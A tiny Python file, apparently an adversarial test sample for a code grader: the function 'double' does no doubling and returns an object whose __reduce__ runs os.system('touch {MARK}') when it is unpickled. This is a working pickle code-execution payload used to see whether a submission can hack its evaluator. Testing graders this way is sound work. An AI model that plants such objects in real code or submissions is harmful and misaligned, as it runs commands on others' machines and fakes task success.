# Tries: an object that runs a program when it is unpickled
# Task: double
# Honest score: 0

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {MARK}",)


def double(x):
    return Bomb()
